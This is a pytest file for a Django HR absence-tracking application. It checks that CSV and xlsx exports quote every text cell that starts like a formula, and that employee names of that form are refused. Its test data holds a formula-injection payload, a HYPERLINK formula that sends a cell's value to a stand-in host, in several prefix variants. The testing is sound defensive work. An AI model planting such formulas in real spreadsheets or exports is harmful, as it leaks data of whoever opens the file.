"""Issue 12 point 3: no exported spreadsheet cell runs as a formula.

A hostile payload goes into every text field that the exports write (names, personnel number,
unit, entity and organisation names, imported cell values); every CSV and xlsx is generated,
read back with the csv module and openpyxl, and no cell may start with a formula character or
be a formula. (The subject-access export is JSON and PDF, not a spreadsheet: it keeps the
employee's data verbatim.)
"""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from terugkeer.accounts.models import Role
from terugkeer.imports.models import ImportRun
from terugkeer.organisations.models import Employee
from terugkeer.spreadsheets import FORMULA_PREFIXES, safe_cell
from terugkeer.trajectories.models import Absence
from tests.factories import OrganisationFactory, UserFactory, grant, make_unit

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"klik")'
PAYLOADS = [HYPERLINK, "+" + HYPERLINK, "-" + HYPERLINK, "@" + HYPERLINK, "\t" + HYPERLINK]


def assert_csv_safe(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
    return rows


def assert_xlsx_safe(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
                    texts.append(cell.value)
    return texts


@pytest.fixture
def hostile(db):
    """An organisation whose every exported text starts like a formula (as legacy data or a
    direct database write could leave it: the forms and the import refuse such names)."""
    org = OrganisationFactory(name="@" + HYPERLINK)
    entity = make_unit(org, "=" + HYPERLINK, "E1", kind="agency", is_entity=True)
    team = make_unit(org, "-" + HYPERLINK, "T1", parent=entity)
    hr = grant(UserFactory(username="hr-hostile", organisation=org), Role.HR, org, entity)
    adviser = grant(UserFactory(username="adv-hostile", organisation=org), Role.ADVISER, org)
    today = timezone.localdate()
    employees = []
    for i, payload in enumerate(PAYLOADS):
        employee = Employee.objects.create(
            organisation=org,
            unit=team,
            entity=entity,
            personnel_number=payload[:30] if i else "+3212345",
            first_name=payload[:100],
            last_name=payload[:100],
            statute="statutair",
        )
        Absence.objects.create(
            employee=employee, entity=entity, first_day=today - timedelta(days=40 + i)
        )
        employees.append(employee)
    return org, entity, hr, adviser, employees


def test_the_four_week_list_neutralises_every_cell(client, hostile):
    _org, _entity, hr, _adviser, employees = hostile
    client.force_login(hr)
    response = client.get(reverse("reports:four_weeks") + "?formaat=csv")
    rows = assert_csv_safe(response.content)
    names = {r[1] for r in rows[1:]}
    assert len(rows) == 1 + len(employees)
    assert "'" + employees[0].full_name in names
    assert {r[2] for r in rows[1:]} == {"'=" + HYPERLINK}
    assert {r[3] for r in rows[1:]} == {"'-" + HYPERLINK}
    assert "'+3212345" in {r[0] for r in rows[1:]}

    response = client.get(reverse("reports:four_weeks") + "?formaat=xlsx")
    texts = assert_xlsx_safe(response.content)
    assert "'" + employees[0].full_name in texts
    assert "'=" + HYPERLINK in texts
    # The weeks stay numbers.
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet.cell(2, 6).value, int)


def test_the_report_exports_neutralise_scope_and_labels(client, hostile):
    org, entity, _hr, adviser, _employees = hostile
    client.force_login(adviser)
    year = timezone.localdate().year
    for scope in (f"entity-{entity.pk}", f"organisation-{org.pk}"):
        csv_response = client.get(
            reverse("reports:export", args=["csv"]) + f"?scope={scope}&jaar={year}"
        )
        assert csv_response.status_code == 200
        assert_csv_safe(csv_response.content)
        xlsx_response = client.get(
            reverse("reports:export", args=["xlsx"]) + f"?scope={scope}&jaar={year}"
        )
        texts = assert_xlsx_safe(xlsx_response.content)
        # The scope's name is in the explanation sheet, made safe.
        assert any(t.startswith("'") and HYPERLINK in t for t in texts), texts[:10]


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def test_the_import_error_list_neutralises_the_values_and_refuses_the_names(
    client, world, media, immediate_tasks
):
    client.force_login(world.hannah)
    lines = ["Personeelsnummer;Voornaam;Achternaam;Eenheid;Statuut"]
    for i, payload in enumerate(PAYLOADS):
        body = payload.replace(";", ",").replace('"', "")
        lines.append(f"N{i};{body};{body};A1;statutair")
    csv_text = "\n".join(lines) + "\n"
    upload = SimpleUploadedFile("medewerkers.csv", csv_text.encode(), content_type="text/csv")
    response = client.post(reverse("imports:index"), {"file": upload})
    assert response.status_code == 302
    run = ImportRun.objects.get()
    # Every name is refused, row and column named.
    refused = {(row, column) for row, column, _value, _reason in run.errors}
    assert {(r, c) for r in range(2, 2 + len(PAYLOADS)) for c in ("Voornaam", "Achternaam")} <= {
        (int(r), c) for r, c in refused
    }
    assert not Employee.objects.filter(personnel_number__startswith="N").exists()
    response = client.get(reverse("imports:errors_csv", args=[run.pk]))
    rows = assert_csv_safe(response.content)
    assert any(r[2].startswith("'=HYPERLINK") for r in rows)


@pytest.mark.parametrize("payload", PAYLOADS + ["\r" + HYPERLINK])
def test_employee_names_starting_like_a_formula_are_refused_by_model_validation(world, payload):
    employee = Employee(
        organisation=world.vo,
        unit=world.team_a,
        entity=world.entity_a,
        personnel_number="X1",
        first_name=payload[:100],
        last_name="Peeters",
        statute="statutair",
    )
    with pytest.raises(ValidationError) as error:
        employee.full_clean()
    assert "first_name" in error.value.message_dict
    employee.first_name, employee.last_name = "Jan", payload[:100]
    with pytest.raises(ValidationError) as error:
        employee.full_clean()
    assert "last_name" in error.value.message_dict
    employee.last_name = "Peeters-De Smet"
    employee.full_clean()


def test_safe_cell_keeps_numbers_and_quotes_text():
    assert safe_cell(12) == 12
    assert safe_cell(-3.5) == -3.5
    assert safe_cell("-3") == "'-3"
    assert safe_cell("\r=1+1") == "'\r=1+1"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
    assert safe_cell("Jan") == "Jan"
